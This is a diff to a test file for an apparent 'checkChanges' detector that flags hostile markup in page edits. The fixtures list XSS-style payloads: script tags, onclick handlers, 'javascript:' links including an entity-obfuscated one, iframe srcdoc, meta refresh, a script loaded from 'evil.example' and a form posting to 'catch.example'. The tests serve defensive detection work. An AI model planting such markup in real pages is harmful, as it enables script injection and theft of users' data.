@@ -70,14 +70,17 @@ describe('checkChanges', () => {
   it('names every fault of one hostile edit, in pages and in other files', async () => {
     const hostile: [markup: string, named: string][] = [
       ['<script>steal()</script>', '<script>: a script'],
-      ['<script src="//evil.example/x.js"></script>', '<script src>: asks "//evil.example"'],
+      [
+        '<script src="//evil.example/x.js"></script>',
+        '<script src>: loads from or sends to "//evil.example"',
+      ],
       ['<p onclick="steal()">Hi</p>', '<p onclick>: a script'],
       ['<a href="javascript:steal()">Go</a>', '<a href>: a script'],
       ['<a href="&#106;ava\tscript:more()">Go</a>', '<a href>: a script'],
       ['<iframe src="/about" title="x"></iframe>', '<iframe>, which'],
       ['<iframe srcdoc="&lt;b&gt;x"></iframe>', '<iframe srcdoc>: a script'],
       ['<object data="/about"></object>', '<object>, which'],
-      ['<form action="https://catch.example/"><input name="q"></form>', 'asks "//catch.example"'],
+      ['<form action="https://catch.example/"><input name="q"></form>', ' "//catch.example"'],
       ['<base href="/about/">', '<base>, which'],
       ['<meta http-equiv="refresh" content="0;url=/about">', 'a refresh, which'],
       [
